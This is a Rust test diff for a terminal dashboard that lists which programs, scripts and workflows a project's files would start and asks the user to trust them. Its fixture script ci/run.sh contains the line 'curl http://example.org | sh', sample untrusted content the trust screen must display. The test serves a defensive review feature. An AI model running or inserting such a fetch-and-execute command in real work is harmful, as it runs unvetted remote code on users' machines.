@@ -74,17 +74,56 @@ fn listed(overview: TrustOverview, size: (u16, u16)) -> Dashboard {
     dashboard
 }
 
-fn check(name: &str, dashboard: &Dashboard) {
-    snapshots::check(&format!("trust_{name}"), dashboard);
-}
-
 #[test]
 fn what_a_project_would_start_is_listed_with_its_place_and_what_changed_and_read_in_full() {
     for size in snapshots::SIZES {
         let mut dashboard = listed(untrusted(), size);
-        check("list", &dashboard);
+        if size.0 <= 80 {
+            snapshots::check("trust_list", &dashboard);
+        }
+        let list = dashboard.words("What this project's files would start");
+        let first = "What this project's files would start \
+            Not trusted: gates.test, own.toml changed; what you trusted stays in force: dbs trust diff. changed program gates.test";
+        assert!(list.starts_with(first), "{list}");
+        assert!(
+            list.contains(if size.0 < 80 {
+                " hash 3f9d0c5a71be24d8a9e6c0f5b2d47183e6a1c94f0b7d528e3…"
+            } else {
+                HASH
+            }),
+            "{list}"
+        );
+        for (text, place) in [
+            ("changed program gates.test", ".debussy/config.toml:9"),
+            ("trusted program roles.defa", ".debussy/config.toml:4"),
+            ("new script ci/run.sh #!/bin/sh", "ci/run.sh:1"),
+            ("trusted workflow .de", ".debussy/workflows/own.toml:1"),
+        ] {
+            let is_row = |row: &String| {
+                row.split_whitespace()
+                    .collect::<Vec<_>>()
+                    .join(" ")
+                    .starts_with(text)
+                    && row.ends_with(place)
+            };
+            let rows = dashboard.boxed("What this project's files would start");
+            assert_eq!(
+                rows.iter().filter(|row| is_row(row)).count(),
+                1,
+                "{text}: {rows:#?}"
+            );
+        }
         dashboard.press("j j v");
-        check("text", &dashboard);
+        let text = [
+            "script ci/run.sh, ci/run.sh:1, new",
+            " #!/bin/sh",
+            " curl http://example.org | sh",
+        ];
+        assert_eq!(dashboard.boxed("script"), text, "{size:?}");
+        assert_eq!(
+            dashboard.last_row(),
+            " ASK   t trust this content  v view  j k move  Esc back"
+        );
     }
 }
 
